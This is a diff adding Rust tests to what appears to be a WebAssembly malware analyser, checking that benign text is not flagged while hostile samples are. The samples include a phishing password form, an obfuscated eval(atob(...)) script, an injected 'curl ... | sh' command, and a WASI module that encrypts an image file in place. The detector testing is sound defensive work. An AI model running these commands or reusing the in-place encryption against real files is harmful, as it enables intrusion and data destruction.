@@ -519,3 +519,76 @@ fn a_server_of_a_folder_that_was_named_is_no_back_door() {
     let other = served("etc/passwd");
     assert!(other.verdict.class >= Class::Suspicious, "{:?}", other.verdict.reasons);
 }
+
+/// A module whose export gives a text back.
+fn giving(text: &str) -> Analysis {
+    let len = text.len();
+    let text = text.replace('"', "\\22");
+    analysed(&format!(
+        r#"(module (memory (export "memory") 1) (data (i32.const 1024) "{text}\00")
+             (func (export "message") (result i32 i32) (i32.const 1024) (i32.const {len})))"#
+    ))
+}
+
+/// A linter, a filter of markup and a program with a help text name what they do not do.
+#[test]
+fn a_message_that_names_tags_or_commands_is_neither() {
+    for message in [
+        "Password <input type=password> inside <form action=https://example.com/> must not be autofilled.",
+        "script,iframe,object <script <iframe javascript: onerror= document.cookie eval( atob( fromCharCode(",
+        "Removed a <script> element: eval( and atob( are not allowed by the policy of this site.",
+        "usage: tool [options]\nInstall with: curl -sSf https://sh.example.com/install | sh\n",
+    ] {
+        let found = giving(message).verdict;
+        assert!(found.class <= Class::Undecided, "{message}: {:?} {:?}", found.class, found.reasons);
+    }
+    for hostile in [
+        "Hello <form action=https://example.invalid/ method=post><input type=password name=p></form>",
+        "Hello <script>eval(atob('YWxlcnQoMSk='))</script>",
+        "true; curl -sSf https://example.invalid/install | sh",
+    ] {
+        let found = giving(hostile).verdict;
+        assert!(
+            found.class >= Class::PotentiallyUnwanted,
+            "{hostile}: {:?} {:?}",
+            found.class,
+            found.reasons
+        );
+    }
+}
+
+/// All numbers of a picture change where it is made brighter, and where it is encrypted.
+#[test]
+fn a_picture_that_is_edited_in_its_place_is_not_destroyed() {
+    let edited = |number: &str| {
+        analysed(&format!(
+            r#"(module
+              (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
+              (import "wasi_snapshot_preview1" "fd_pread" (func $read (param i32 i32 i32 i64 i32) (result i32)))
+              (import "wasi_snapshot_preview1" "fd_pwrite" (func $write (param i32 i32 i32 i64 i32) (result i32)))
+              (memory (export "memory") 20) (data (i32.const 1024) "home/user/pictures/garden.bmp")
+              (func (export "_start") (local $i i32) (local $v i32) (local $s i32)
+                (drop (call $path_open (i32.const 3) (i32.const 1) (i32.const 1024) (i32.const 29) (i32.const 0)
+                  (i64.const 0x604056) (i64.const 0) (i32.const 0) (i32.const 12)))
+                (i32.store (i32.const 0) (i32.const 200000)) (i32.store (i32.const 4) (i32.const 400000))
+                (drop (call $read (i32.load (i32.const 12)) (i32.const 0) (i32.const 1) (i64.const 0) (i32.const 8)))
+                (local.set $i (i32.const 54)) (local.set $s (i32.const 77))
+                (loop $next
+                  (local.set $s (i32.xor (local.get $s) (i32.shl (local.get $s) (i32.const 13))))
+                  (local.set $s (i32.xor (local.get $s) (i32.shr_u (local.get $s) (i32.const 17))))
+                  (local.set $s (i32.xor (local.get $s) (i32.shl (local.get $s) (i32.const 5))))
+                  (local.set $v (i32.load8_u offset=200000 (local.get $i)))
+                  (i32.store8 offset=200000 (local.get $i) {number})
+                  (br_if $next (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.load (i32.const 8)))))
+                (i32.store (i32.const 4) (i32.load (i32.const 8)))
+                (drop (call $write (i32.load (i32.const 12)) (i32.const 0) (i32.const 1) (i64.const 0) (i32.const 8)))))"#
+        ))
+        .verdict
+    };
+    for number in ["(i32.sub (i32.const 255) (local.get $v))", "(i32.add (local.get $v) (i32.const 20))"] {
+        let found = edited(number);
+        assert_eq!(found.class, Class::Undecided, "{number}: {:?}", found.reasons);
+    }
+    let sealed = edited("(i32.xor (local.get $v) (local.get $s))");
+    assert!(sealed.class >= Class::Suspicious, "{:?}", sealed.reasons);
+}
